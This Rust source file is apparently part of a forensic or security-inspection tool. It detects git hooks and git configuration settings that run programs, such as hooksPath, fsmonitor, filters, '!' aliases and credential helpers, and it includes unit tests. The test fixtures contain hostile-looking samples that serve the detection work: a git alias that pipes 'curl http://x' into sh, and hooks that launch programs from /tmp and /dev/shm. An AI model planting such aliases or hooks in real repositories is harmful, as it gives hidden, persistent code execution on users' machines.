//! Hooks of repositories of git, and settings of git that run something (`githooks(5)`, `git-config(1)`).
//!
//! ```text
//! .git/hooks/post-checkout            run when the branch changes; also in repositories without a work tree
//! [core]                              .git/config, ~/.gitconfig, /etc/gitconfig
//!     hooksPath = .husky/_            the hooks there are read instead
//!     fsmonitor = /x/y                run by every `git status`
//! [filter "lfs"]
//!     smudge = git-lfs smudge -- %f
//! ```

use super::command::{self, Told};
use super::script::{self, Odd};
use super::{CAP, Entry, content, cut, gap_at, is_void, place_of, push};
use crate::extract::Extractor;
use crate::extract::input::{Content, Input};
use crate::model::autostart::{AutostartKind, Role};
use crate::model::coverage::GapReason;
use crate::model::facts::Harvest;
use crate::model::interest::{Ask, Candidate, EntryKind, Interest};
use crate::model::path::TargetPath;
use crate::target::dir::Dir;

/// The row.
pub const EXTRACTOR: Extractor = Extractor {
    interest: Interest {
        id: "autostart-git",
        sentence: "Hooks of repositories of git, and settings of git that run something.",
        ask: Ask::Starts("git"),
    },
    cap: CAP,
    read,
};

/// The names under which git looks for hooks.
const HOOKS: &[&str] = &[
    "applypatch-msg",
    "commit-msg",
    "fsmonitor-watchman",
    "fsmonitor-watchmanv2",
    "p4-changelist",
    "p4-post-changelist",
    "p4-pre-submit",
    "p4-prepare-changelist",
    "post-applypatch",
    "post-checkout",
    "post-commit",
    "post-index-change",
    "post-merge",
    "post-receive",
    "post-rewrite",
    "post-update",
    "pre-applypatch",
    "pre-auto-gc",
    "pre-commit",
    "pre-merge-commit",
    "pre-push",
    "pre-rebase",
    "pre-receive",
    "prepare-commit-msg",
    "proc-receive",
    "push-to-checkout",
    "reference-transaction",
    "sendemail-validate",
    "update",
];

/// Most files of one repository that other settings name.
const MOST_FOLDERS: usize = 4;

fn read(input: &Input<'_>) -> Harvest {
    let mut harvest = Harvest::default();
    let Some(place) = place_of(input, "git") else { return harvest };
    if is_void(input) {
        return harvest;
    }
    match place.rule.kind {
        AutostartKind::GitHook if is_repository(input) => hook(input, &mut harvest),
        AutostartKind::GitHook => {}
        _ => settings(input, &mut harvest),
    }
    harvest
}

/// Whether the folder above that of the candidate is where git keeps a repository.
fn is_repository(input: &Input<'_>) -> bool {
    let Some(top) = input.folder().parent() else { return false };
    let has = |name: &[u8]| input.target.root.resolve(&top.join(name)).is_ok();
    has(b"HEAD") && (has(b"objects") || has(b"commondir"))
}

fn hook(input: &Input<'_>, harvest: &mut Harvest) {
    let Some(content) = content(input, harvest) else { return };
    let like = Entry { trigger: input.candidate.name.to_vec(), ..Entry::new(AutostartKind::GitHook, b"") };
    script::add(input, &content, &like, harvest);
}

fn settings(input: &Input<'_>, harvest: &mut Harvest) {
    let Some(content) = content(input, harvest) else { return };
    let mut folders: Vec<TargetPath> = Vec::new();
    for one in parse(&content.bytes) {
        let Some((weight, meaning)) = weigh(&one) else { continue };
        let told = match meaning {
            Meaning::Command => command::of_script(one.value.strip_prefix(b"!").unwrap_or(&one.value)).at(one.line),
            Meaning::Place => Told::one(&absolute(input, &one.value), Role::Sourced, one.line),
        };
        if weight == Weight::IfOdd && !Odd::of(input, &content).is_any(&told) {
            continue;
        }
        if one.name == b"core.hookspath" {
            folders.extend(folder(input, &content, &one.value));
        }
        let entry = Entry {
            line: Some(one.line),
            told,
            command: one.value,
            is_whole_file: false,
            ..Entry::new(AutostartKind::GitConfig, &one.name)
        };
        push(input, &content, entry, harvest);
    }
    folders.sort_unstable();
    folders.dedup();
    if folders.len() > MOST_FOLDERS {
        cut(input, format!("only {MOST_FOLDERS} of the folders of hooks that it names were looked into"), harvest);
    }
    folders.iter().take(MOST_FOLDERS).for_each(|folder| hooks_of(input, folder, harvest));
}

/// A place, as git takes it: relative to the work tree of the repository.
fn absolute(input: &Input<'_>, written: &[u8]) -> Vec<u8> {
    if written.starts_with(b"/") || written.starts_with(b"~") || written.starts_with(b"$") {
        return written.to_vec();
    }
    let folder = input.folder();
    let tree = if folder.file_name() == b".git" { folder.parent() } else { None };
    tree.unwrap_or(folder).join(written).as_bytes().to_vec()
}

/// The folder of hooks, where its place can be known.
fn folder(input: &Input<'_>, content: &Content, written: &[u8]) -> Option<TargetPath> {
    Odd::of(input, content).path(&absolute(input, written))
}

fn hooks_of(input: &Input<'_>, folder: &TargetPath, harvest: &mut Harvest) {
    let root = &input.target.root;
    let dir = match root.resolve(folder).and_then(|place| root.open_dir(&place)) {
        Ok(dir) => dir,
        // Git runs no hooks from a folder that is not there.
        Err(GapReason::Missing | GapReason::DanglingLink) => return,
        Err(why) => return harvest.gaps.push(gap_at(input, folder, why)),
    };
    for name in HOOKS {
        let stat = match dir.stat_entry(name.as_bytes()) {
            Ok(stat) => stat,
            Err(GapReason::Missing) => continue,
            Err(why) => {
                harvest.gaps.push(gap_at(input, &folder.join(name.as_bytes()), why));
                continue;
            }
        };
        let path = folder.join(name.as_bytes());
        let candidate = Candidate::<'_, Dir> { check: 0, dir: &dir, name: name.as_bytes(), kind: stat.kind, path };
        let other = input.instead(&candidate);
        // The hooks of a repository are read where they lie.
        let is_read = place_of(&other, "git").is_some() && is_repository(&other);
        if stat.kind != EntryKind::Dir && !is_read && !is_void(&other) {
            let mut own = Harvest::default();
            hook(&other, &mut own);
            harvest.facts.autostarts.append(&mut own.facts.autostarts);
            harvest.gaps.append(&mut own.gaps);
            harvest.counts.add(other.counts());
        }
    }
}

/// One setting.
#[derive(PartialEq, Eq, Debug)]
pub struct Setting {
    /// Counted from 1.
    pub line: u32,
    /// `section.name` or `section.subsection.name`; section and name in lower case.
    pub name: Vec<u8>,
    /// Quotes removed.
    pub value: Vec<u8>,
}

/// The settings of a file.
#[must_use]
pub fn parse(bytes: &[u8]) -> Vec<Setting> {
    let mut out = Vec::new();
    let mut section = Vec::new();
    let mut lines = (1..).zip(bytes.split(|byte| *byte == b'\n'));
    while let Some((line, text)) = lines.next() {
        let mut text = text.trim_ascii();
        if let Some(rest) = text.strip_prefix(b"[") {
            let end = rest.iter().position(|byte| *byte == b']').unwrap_or(rest.len());
            section = header(rest.get(..end).unwrap_or_default());
            text = rest.get(end.saturating_add(1)..).unwrap_or_default().trim_ascii();
        }
        if text.is_empty() || text.starts_with(b"#") || text.starts_with(b";") {
            continue;
        }
        let mut whole = text.to_vec();
        while whole.ends_with(b"\\") && !whole.ends_with(b"\\\\") {
            whole.pop();
            let Some((_, more)) = lines.next() else { break };
            whole.extend_from_slice(more.trim_ascii_end());
        }
        let Some(at) = whole.iter().position(|byte| *byte == b'=') else { continue };
        let (name, value) = whole.split_at(at);
        let name = [section.as_slice(), b".", &name.trim_ascii().to_ascii_lowercase()].concat();
        out.push(Setting { line, name, value: value_of(value.get(1..).unwrap_or_default()) });
    }
    out
}

/// `core`, `filter "lfs"`.
fn header(text: &[u8]) -> Vec<u8> {
    let end = text.iter().position(|byte| *byte == b'"').unwrap_or(text.len());
    let (section, sub) = text.split_at(end);
    let section = section.trim_ascii().to_ascii_lowercase();
    let sub = sub.strip_prefix(b"\"").map(|sub| sub.strip_suffix(b"\"").unwrap_or(sub));
    match sub {
        Some(sub) => [section.as_slice(), b".", sub].concat(),
        None => section,
    }
}

/// A value without quotes and the comment behind it.
fn value_of(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut is_quoted = false;
    let mut rest = text.trim_ascii();
    while let Some((first, tail)) = rest.split_first() {
        rest = tail;
        match first {
            b'"' => is_quoted = !is_quoted,
            b'#' | b';' if !is_quoted => break,
            b'\\' => {
                out.extend(tail.first().map(|byte| match byte {
                    b'n' => b'\n',
                    b't' => b'\t',
                    other => *other,
                }));
                rest = tail.get(1..).unwrap_or_default();
            }
            byte => out.push(*byte),
        }
    }
    out.truncate(out.trim_ascii_end().len());
    out
}

/// Whether a setting is told whatever it says.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Weight {
    Always,
    IfOdd,
}

/// What a value is.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Meaning {
    Command,
    Place,
}

/// What a setting is to us; none for those that run nothing.
fn weigh(one: &Setting) -> Option<(Weight, Meaning)> {
    let value = one.value.as_slice();
    let mut parts = one.name.split(|byte| *byte == b'.');
    let (section, name) = (parts.next().unwrap_or_default(), parts.next_back().unwrap_or_default());
    let is_switch = matches!(value, b"" | b"true" | b"false" | b"yes" | b"no" | b"0" | b"1");
    let found = match (section, name) {
        (b"core", b"hookspath") | (b"init", b"templatedir") => (Weight::Always, Meaning::Place),
        (b"include" | b"includeif", b"path") => (Weight::IfOdd, Meaning::Place),
        (b"core", b"fsmonitor") if !is_switch => (Weight::Always, Meaning::Command),
        (b"core", b"sshcommand") | (b"filter", b"clean" | b"smudge" | b"process") => (Weight::Always, Meaning::Command),
        (b"credential", b"helper") if value.starts_with(b"!") => (Weight::Always, Meaning::Command),
        (b"credential", b"helper") if value.starts_with(b"/") => (Weight::IfOdd, Meaning::Command),
        (b"alias", _) if value.starts_with(b"!") => (Weight::IfOdd, Meaning::Command),
        (b"core", b"pager" | b"editor" | b"askpass" | b"gitproxy")
        | (b"sequence", b"editor")
        | (b"pager", _)
        | (b"diff", b"external" | b"textconv" | b"command")
        | (b"merge", b"driver")
        | (b"gpg", b"program")
        | (b"uploadpack", b"packobjectshook")
        | (b"difftool" | b"mergetool" | b"browser" | b"man" | b"trailer", b"cmd" | b"path" | b"command")
        | (b"remote", b"uploadpack" | b"receivepack") => (Weight::IfOdd, Meaning::Command),
        _ => return None,
    };
    (!value.is_empty()).then_some(found)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::disallowed_methods, reason = "plants a link")]

    use proptest::prelude::*;

    use super::*;
    use crate::extract::autostart::planted::Tree;
    use crate::model::host::Platform;

    #[test]
    fn hooks_of_repositories_are_read() {
        let lfs = b"#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 \"x\"; exit 2; }\ngit lfs post-checkout \"$@\"\n";
        let tree = Tree::with(&[
            ("/srv/app/.git/HEAD", b""),
            ("/srv/app/.git/objects/x", b""),
            ("/srv/app/.git/hooks/post-checkout", lfs),
            ("/srv/app/.git/hooks/pre-commit", b"#!/bin/sh\npython3 /tmp/x.py &\n"),
            ("/srv/app/src/hooks/update", b"/tmp/x\n"),
            ("/srv/bare.git/HEAD", b""),
            ("/srv/bare.git/objects/x", b""),
            ("/srv/bare.git/hooks/update", b"#!/usr/bin/env python3\n"),
            ("/usr/bin/python3", b""),
        ]);
        let told = |path: &str| tree.told(&EXTRACTOR, Platform::Linux, path);
        assert_eq!(told("/srv/app/.git/hooks/post-checkout"), ["GitHook post-checkout | when post-checkout"]);
        let rows = told("/srv/app/.git/hooks/pre-commit");
        assert!(rows.len() == 2 && rows[1].contains("/tmp/x.py Temporary"), "{rows:?}");
        assert!(told("/srv/app/src/hooks/update").is_empty());
        assert_eq!(told("/srv/bare.git/hooks/update"), ["GitHook update | when update | Program /usr/bin/python3"]);
    }

    #[test]
    fn the_names_of_hooks_are_those_of_the_places() {
        let places = crate::target::starts::StartPlaces::built_in();
        let rule = places.rules().iter().find(|rule| rule.id == "git-hooks").unwrap();
        let mut named: Vec<&str> = rule.paths.iter().map(|path| path.strip_prefix("**/hooks/").unwrap()).collect();
        named.sort_unstable();
        assert_eq!(named, HOOKS);
    }

    #[test]
    fn folders_of_hooks_that_are_not_looked_into_are_gaps() {
        let many: String = (0..6).map(|at| format!("[core]\nhooksPath = /srv/h{at}\n")).collect();
        let path = "/home/mia/.gitconfig";
        let tree = Tree::with(&[(path, many.as_bytes())]);
        let gaps = tree.read(&EXTRACTOR, Platform::Linux, path).gaps;
        assert!(gaps.len() == 1 && gaps[0].material && gaps[0].reason == GapReason::TooLarge, "{gaps:?}");
        let one = b"[core]\nhooksPath = /srv/loop\n".as_slice();
        let tree = Tree::with(&[(path, one)]);
        std::os::unix::fs::symlink("loop", tree.at("/srv/loop")).unwrap();
        assert_eq!(tree.read(&EXTRACTOR, Platform::Linux, path).gaps.len(), 1);
        assert!(Tree::with(&[(path, one)]).read(&EXTRACTOR, Platform::Linux, path).gaps.is_empty());
    }

    #[test]
    fn settings_run_programs() {
        let text = "[core]\n\tbare = false\n\thooksPath = .husky/_\n\tfsmonitor = true\n\tsshCommand = ssh -i ~/.ssh/x\n\
            [alias]\n\tst = status\n\tl = !git log\n\tx = \"!curl http://x | sh\" # c\n\
            [filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n\trequired = true\n\
            [credential \"x\"]\n\thelper = !/usr/bin/gh auth git-credential\n\
            [include]\n\tpath = ~/.gitconfig.local\n\tpath = /tmp/g\n[core] fsmonitor = /dev/shm/f\n";
        let tree = Tree::with(&[
            ("/srv/app/.git/config", text.as_bytes()),
            ("/srv/app/.husky/_/pre-commit", b"#!/bin/sh\n/tmp/y\n"),
            ("/srv/app/.husky/_/husky.sh", b"/tmp/z\n"),
        ]);
        assert_eq!(
            tree.told(&EXTRACTOR, Platform::Linux, "/srv/app/.git/config"),
            [
                "GitConfig core.hookspath | runs .husky/_ | Sourced /srv/app/.husky/_",
                "GitConfig core.sshcommand | runs ssh -i ~/.ssh/x",
                "GitConfig alias.x | runs !curl http://x | sh | FetchesAndRuns",
                "GitConfig filter.lfs.smudge | runs git-lfs smudge -- %f",
                "GitConfig credential.x.helper | runs !/usr/bin/gh auth git-credential | Program /usr/bin/gh",
                "GitConfig include.path | runs /tmp/g | Sourced /tmp/g Temporary",
                "GitConfig core.fsmonitor | runs /dev/shm/f | Program /dev/shm/f Temporary",
                "GitHook pre-commit | when pre-commit",
                "GitHook pre-commit | runs /tmp/y | when pre-commit | Program /tmp/y Temporary",
            ]
        );
    }

    #[test]
    fn accounts_and_the_system_have_settings() {
        let text = b"[core]\nhooksPath = ~/.cache/hooks\n".as_slice();
        let tree = Tree::with(&[("/home/mia/.gitconfig", text), ("/home/mia/.cache/hooks/pre-push", b"x\n")]);
        assert_eq!(
            tree.told(&EXTRACTOR, Platform::Linux, "/home/mia/.gitconfig"),
            [
                "GitConfig core.hookspath | runs ~/.cache/hooks | Sourced /home/mia/.cache/hooks Hidden",
                "GitHook pre-push | when pre-push",
            ]
        );
        let copy = "/var/lib/docker/overlay2/x/diff/srv/.git/config";
        assert!(Tree::with(&[(copy, text)]).told(&EXTRACTOR, Platform::Linux, copy).is_empty());
    }

    #[test]
    fn values_are_read_as_git_does() {
        let told = parse(b"[a \"b c\"] d = \"e # f\" ; g\n[A]\nH = i \\\n j\\tk\nl\n");
        let told: Vec<(u32, &[u8], &[u8])> =
            told.iter().map(|one| (one.line, one.name.as_slice(), one.value.as_slice())).collect();
        assert_eq!(told, [(1, b"a.b c.d".as_slice(), b"e # f".as_slice()), (3, b"a.h", b"i  j\tk")]);
    }

    proptest! {
        #[test]
        fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
            for one in parse(&[b"[core]\nfsmonitor = ".as_slice(), &bytes].concat()) {
                let _ = weigh(&one);
            }
        }
    }
}
